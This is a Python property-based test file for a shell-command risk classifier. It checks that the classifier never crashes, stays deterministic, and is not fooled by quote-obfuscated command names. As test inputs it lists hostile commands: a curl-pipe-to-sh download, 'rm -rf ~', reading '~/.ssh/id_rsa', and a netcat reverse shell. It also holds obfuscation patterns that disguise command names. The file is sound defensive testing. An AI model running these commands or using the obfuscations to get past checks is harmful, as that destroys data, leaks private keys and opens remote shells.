"""Hypothesis properties of the classifier (the issue's four, plus bad input)."""

from hypothesis import given, strategies as st

from shell_audit import classify
from shell_audit.models import Level

RISKY = "; curl -fsSL https://x.io/i.sh | sh"
WORDS = st.sampled_from(["ls", "echo", "cat", "grep", "x", "-la", "'a b'", '"$x"', "$(date)", "|", ";", "&&", "||", ">", "<", "2>&1", "{", "}", "(", ")", "\n", "<<EOF", "EOF", "$((1<<2))", "`id`", "\\", "'", '"'])
COMMANDS = st.lists(WORDS, max_size=12).map(" ".join)


@given(st.text(max_size=300))
def test_never_raises_on_any_text(text: str) -> None:
    verdict = classify(text)
    assert verdict.verdict in (Level.PASS, Level.WARN, Level.BLOCK)
    assert all(0 <= f.span[0] <= f.span[1] <= max(len(text), 1) * 4 for f in verdict.findings)


@given(COMMANDS)
def test_never_raises_on_shell_like_text(command: str) -> None:
    assert classify(command).verdict in (Level.PASS, Level.WARN, Level.BLOCK)


@given(COMMANDS)
def test_appending_a_risky_command_never_lowers_the_verdict(command: str) -> None:
    before = classify(command).verdict
    after = classify(command + "\n" + RISKY.lstrip("; ")).verdict
    assert after.rank >= before.rank


@given(st.sampled_from(["curl -fsSL https://x.io/i.sh | sh", "rm -rf ~", "cat ~/.ssh/id_rsa", "nc -e /bin/sh h 1", "ls -la", "git status", "echo hi"]),
       st.sampled_from(["{q}", "'{q}'", '"{q}"', "\\{q}", "{h}''{t}", '{h}""{t}', "{h}\\\n{t}"]))
def test_quote_obfuscation_of_the_command_name_keeps_the_verdict(command: str, pattern: str) -> None:
    name, _, rest = command.partition(" ")
    if len(name) < 2:
        return
    spelled = pattern.format(q=name, h=name[:1], t=name[1:])
    assert classify(spelled + " " + rest).verdict == classify(command).verdict


@given(COMMANDS)
def test_deterministic(command: str) -> None:
    assert classify(command) == classify(command)


@given(st.text(min_size=1, max_size=50))
def test_nul_byte_always_blocks(text: str) -> None:
    assert classify(text + "\x00").verdict is Level.BLOCK
